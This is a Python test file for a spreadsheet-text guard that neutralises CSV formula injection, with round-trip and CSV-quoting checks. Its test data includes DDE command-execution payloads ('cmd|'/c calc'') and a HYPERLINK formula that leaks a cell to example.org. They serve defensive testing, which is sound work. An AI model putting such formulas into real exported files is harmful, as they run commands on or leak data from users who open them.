"""Text for spreadsheets: what would be run is guarded, numbers are never touched, and the guard comes off."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from neocapgui.exchange.safe_text import csv_text, guarded, unguarded

RUN = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.org?leak="&A1)',
    "+1+cmd|'/c calc'!A1",
    "-2+3",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=",
    "'=1+1",
    "''@SUM",
]
HARMLESS = [
    "",
    "Ada",
    "'tis",
    "'",
    "A=B",
    "5 Fund",
    " =1+1",
    "Über + Söhne",
    "a\n=1",
    "−5 (a true minus sign)",
]


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_is_guarded(text: str) -> None:
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet="=+-@\t\r\n\0＝'aé1", max_size=8))
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝"))


def test_numbers_are_never_touched_and_a_holder_called_like_one_is() -> None:
    said = csv_text(("holder", "change"), [("-5", "-5"), ("Ada", "-1234.5")], figures={"change"})
    assert list(csv.reader(io.StringIO(said))) == [["holder", "change"], ["'-5", "-5"], ["Ada", "-1234.5"]]


@given(st.lists(st.text(max_size=20), min_size=2, max_size=2))
def test_a_table_is_read_back_cell_by_cell(cells: list[str]) -> None:
    head, row = csv.reader(io.StringIO(csv_text(("a", "b"), [cells]), newline=""))
    assert head == ["a", "b"]
    assert [unguarded(cell) for cell in row] == cells


def test_a_return_inside_a_cell_begins_no_row_of_its_own() -> None:
    assert csv_text(("a", "b"), [("Ada\r=1+1", "x")]) == 'a,b\n"Ada\r=1+1",x\n'
